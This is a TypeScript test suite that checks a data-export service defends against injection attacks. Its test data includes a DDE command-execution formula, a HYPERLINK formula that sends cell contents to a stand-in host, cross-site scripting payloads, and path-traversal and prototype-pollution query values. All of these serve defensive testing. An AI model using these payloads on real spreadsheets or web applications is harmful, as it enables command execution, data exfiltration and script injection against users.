import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { ORIGIN } from './reach.ts'
import type { Ground } from './ground.ts'

/** What spreadsheets run. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example?"&A1,"x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1"',
  ';=1+1',
  '=1+1\n=2+2',
]
const runs = /^[=+\-@\t\r＝＋－＠]/
/** What pages run. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</title><svg onload=alert(1)>',
  "javascript:alert('1')",
]

export function exportAttacks(on: () => Ground): void {
  /** Lets nodes with such titles be there for a while. */
  const withTitles = async (titles: readonly string[], work: () => Promise<void>): Promise<void> => {
    const { editor } = on()
    const create = (title: string, n: number) =>
      `a${n}: createBody(input: { title: { vi: ${JSON.stringify(title)}, en: ${JSON.stringify(title)} } }) { id }`
    await editor.data(`mutation { ${titles.map(create).join(' ')} }`)
    try {
      await work()
    } finally {
      const { changes } = await editor.data<{ changes: { nodes: { id: string }[] } }>(
        `{ changes(first: ${titles.length}) { nodes { id } } }`,
      )
      for (const { id } of changes.nodes)
        await editor.data('mutation ($id: ID!) { undo(changeSetId: $id) { seq } }', { id })
    }
  }
  const cellsOf = (text: string): string[] => parse(text, { bom: true, relax_column_count: true }).flat()

  test('formulas in titles are text in every table', async () => {
    await withTitles(FORMULAS, async () => {
      const table = await (await on().reader.fetch('/export?format=csv&kind=Body')).text()
      const zip = unzipSync(
        new Uint8Array(await (await on().reader.fetch('/export?format=zip')).arrayBuffer()),
      )
      const tables = [table, ...Object.values(zip).map((bytes) => new TextDecoder().decode(bytes))]
      expect(tables.length).toBeGreaterThan(5)
      for (const cells of tables.map(cellsOf))
        expect(cells.filter((cell) => runs.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([])
      const shown = cellsOf(table).map((cell) => cell.replace(/^'(?=[=+\-@\t\r＝＋－＠])/, ''))
      for (const formula of FORMULAS) expect(shown).toContain(formula)
    })
  })

  test('formulas in what the audit record holds are text', async () => {
    for (const email of ['=1+1@elsewhere.example', '+cmd@elsewhere.example', '＝x@elsewhere.example'])
      await on()
        .client()
        .graphql('mutation ($e: String!) { signIn(email: $e, password: "nothing of the kind") { role } }', {
          e: email,
        })
    const cells = cellsOf(await (await on().admin.fetch('/export?what=audit&format=csv')).text())
    expect(cells).toContain("'=1+1@elsewhere.example")
    expect(cells.filter((cell) => runs.test(cell))).toEqual([])
  })

  test('scripts in titles are never part of a page', async () => {
    await withTitles(SCRIPTS, async () => {
      for (const format of ['json', 'csv&kind=Body', 'graphml', 'turtle', 'jsonld', 'cypher']) {
        const response = await on().reader.fetch(`/export?format=${format}`)
        expect(response.headers.get('content-type')).not.toMatch(/html|svg|javascript/)
        expect(response.headers.get('content-disposition')).toMatch(
          /^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.%-]+$/,
        )
        expect(response.headers.get('x-content-type-options')).toBe('nosniff')
        expect(response.headers.get('content-security-policy')).toContain("default-src 'none'")
        if (format === 'graphml') expect(await response.text()).not.toContain('<script')
        else await response.arrayBuffer()
      }
      const answer = await on().reader.fetch('/graphql', {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'text/html, application/json' },
        body: '{"query":"{ bodies(first: 200) { nodes { title } } }"}',
      })
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      for (const path of [
        '/',
        '/graphql?query=<script>alert(1)</script>',
        '/<script>alert(1)</script>',
        '/auth/login?returnTo=<script>',
      ]) {
        const page = await on()
          .client()
          .fetch(path, { headers: { accept: 'text/html' } })
        expect(await page.text()).not.toContain('<script>alert(1)')
        expect(page.headers.get('content-security-policy')).not.toMatch(/script-src[^;]*'unsafe/)
      }
    })
  })

  describe('exports that nobody may ask for', () => {
    test.each([
      '/export',
      '/export?format=json',
      '/export?format=zip',
      '/export?what=audit&format=csv',
      '/export?format=csv&kind=../../etc/passwd',
      '/export?ids=lesson-1&depth=1',
    ])('%s', async (path) => {
      expect((await on().client().fetch(path)).status).toBe(401)
      const posted = {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"format":"json"}',
      }
      expect((await on().client().fetch(path, posted)).status).toBe(401)
    })

    test.each([
      ['format=../../package.json', 400],
      ['format=json%00', 400],
      ['format=csv&kind=../Body', 400],
      ['format=csv&kind=__proto__', 400],
      ['format=csv&kind=constructor', 400],
      ['__proto__=x', 400],
      ['toString=x', 400],
      ['format=csv&kind=Body&filter={"__proto__":{"id":{"eq":"x"}}}', 400],
      [`ids=${Array.from({ length: 1_000 }, (_, n) => `n${n}`).join()}`, 404],
      ['asOf=99999999999999999999', 400],
      ['asOf=-1', 400],
      ['ids=lesson-1&depth=99999', 400],
      ['what=constructor', 400],
      ['what=audit&format=csv', 403],
    ])('of a reader: %s', async (query, status) => {
      const response = await on().reader.fetch(`/export?${query}`)
      expect(response.status).toBe(status)
      expect(await response.text()).toMatch(/"code":"(BAD_USER_INPUT|NOT_FOUND|FORBIDDEN)"/)
    })

    test('a list of ids as long as a body may be', async () => {
      const ids = Array.from({ length: 100_000 }, (_, n) => `n${n}`)
      const body = JSON.stringify({ format: 'json', ids, filter: JSON.parse('{"__proto__":1}') as unknown })
      const response = await on().editor.fetch('/export', {
        method: 'POST',
        headers: { 'content-type': 'application/json', origin: ORIGIN },
        body,
      })
      expect(response.status).toBe(400)
    })
  })
}
